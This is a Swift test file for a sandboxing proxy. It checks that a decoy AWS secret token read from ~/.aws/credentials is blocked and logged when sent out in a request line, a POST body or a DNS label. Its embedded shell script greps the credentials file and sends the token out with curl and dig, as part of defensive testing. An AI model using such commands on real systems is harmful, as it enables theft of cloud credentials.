import Foundation
import XCTest

/// Canary tokens leaving the sandbox through the proxy (issue 15, part 4), against the real bwrap
/// and the network peers of `NetworkTests`: the game reads its decoy `~/.aws/credentials` and sends
/// the token in a request line, a body and as a DNS label; each is refused and recorded as
/// `exfiltration`, and a request without the token still goes through.
extension NetworkTests {
    func testADecoyTokenSentThroughTheProxyOrAsADNSLabelIsRefusedAndRecorded() throws {
        let p = try peers()
        let home = try sb.makeHome()
        // The real secret on the host: the game gets a decoy in its place, holding the session's token.
        try FileManager.default.createDirectory(atPath: home.path + "/.aws", withIntermediateDirectories: true)
        try "[default]\naws_access_key_id = AKIAPLANTEDREALKEY\naws_secret_access_key = PLANTED-REAL-SECRET\n"
            .write(toFile: home.path + "/.aws/credentials", atomically: true, encoding: .utf8)
        sb.chownTree(home.path)
        let log = sb.logPath()
        let url = "http://allowed.ww.test:\(p.httpPort)/ok.txt"
        let script = """
            token=$(grep '^aws_secret_access_key' ~/.aws/credentials 2>/dev/null | grep -Eo 'ww[a-z2-7]{24}' | head -1)
            echo "token=$token"
            [ -n "$token" ] || exit 0
            echo "clean: $(curl -sS -m 5 \(url))"
            curl -s -m 5 -o /dev/null -w 'line=%{http_code}\\n' "\(url)?k=$token"; echo "line_rc=$?"
            curl -s -m 5 -o /dev/null -w 'body=%{http_code}\\n' --data "secret=$token" \(url); echo "body_rc=$?"
            echo "dns: $(dig +tries=1 +time=3 "$token.allowed.ww.test" A | grep -o 'status: [A-Z]*')"
            """
        let r = try run(script, ["-p", try proxyProfile(p)], home: home, log: log)
        XCTAssertEqual(r.status, 0, r.output)
        XCTAssertFalse(r.output.contains("PLANTED-REAL-SECRET"), r.output)
        let token = r.stdout.split(separator: "\n").first { $0.hasPrefix("token=") }.map { String($0.dropFirst(6)) } ?? ""
        guard !token.isEmpty else { throw Skip.unexpected("decoys not built yet") }

        XCTAssertTrue(r.stdout.contains("clean: hello from the host origin"), r.output)
        for attempt in ["line", "body"] {
            XCTAssertTrue(r.stdout.contains("\(attempt)=000"), "closed unanswered: \(r.output)")
            XCTAssertFalse(r.stdout.contains("\(attempt)_rc=0"), r.output)
        }
        XCTAssertTrue(r.stdout.contains("dns: status: REFUSED"), r.output)

        let events = kinds(sb.events(log), "exfiltration")
        XCTAssertEqual(events.filter { $0["channel"] as? String == "http" && $0["destination"] as? String == "allowed.ww.test:\(p.httpPort)" }.count, 2, "\(events)")
        XCTAssertEqual(events.filter { $0["channel"] as? String == "dns" && $0["destination"] as? String == "\(token).allowed.ww.test" }.count, 1, "\(events)")
        XCTAssertTrue(events.allSatisfy { ($0["stands_for"] as? String)?.hasSuffix("/.aws") == true && $0["closed"] as? Bool == true }, "\(events)")
        // The asking process is found behind its bridge, as for the proxy's other records.
        XCTAssertTrue(events.contains { ($0["chain"] as? [[String: Any]])?.first?["name"] as? String == "curl" }, "\(events)")
        XCTAssertFalse(try String(contentsOfFile: log, encoding: .utf8).contains("PLANTED-REAL-SECRET"))
    }
}
